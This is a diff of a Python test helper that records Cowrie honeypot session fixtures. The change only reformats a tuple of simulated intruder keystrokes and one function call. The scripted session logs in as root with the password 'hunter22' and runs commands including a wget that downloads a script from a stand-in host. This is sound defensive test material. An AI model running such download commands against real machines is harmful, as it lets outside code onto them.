@@ -26,7 +26,14 @@ from tests.recording.typist import BACKSPACE, Hand, type_lines
 VERSIONS = {"2.7": "2.7.0", "2.8": "2.8.1", "2.9": "2.9.0", "3.0": "3.0.15", "3.1": "3.1.4"}
 FIXTURES = Path(__file__).parents[1] / "fixtures/cowrie/recorded"
 NO_UUID = "00000000-0000-4000-8000-000000000000"
-TYPED = ("uname -a", "sl" + BACKSPACE * 2 + "ls -la", "sl", "wget http://203.0.113.9/demo.sh", "crontab -l", "exit")
+TYPED = (
+    "uname -a",
+    "sl" + BACKSPACE * 2 + "ls -la",
+    "sl",
+    "wget http://203.0.113.9/demo.sh",
+    "crontab -l",
+    "exit",
+)
 ROOT = Login("root", ("hunter22",))
 
 
@@ -96,7 +103,9 @@ def keep(pot: Cowrie, place: Path) -> None:
 async def record(minor: str, version: str, bait_port: int) -> None:
     """Make the fixture of one minor version anew."""
     with tempfile.TemporaryDirectory() as workdir:
-        async with running_cowrie(Path(workdir), version=version, sensor="decoy-01", bait_port=bait_port) as pot:
+        async with running_cowrie(
+            Path(workdir), version=version, sensor="decoy-01", bait_port=bait_port
+        ) as pot:
             await scenario(pot)
         keep(pot, FIXTURES / minor)
 
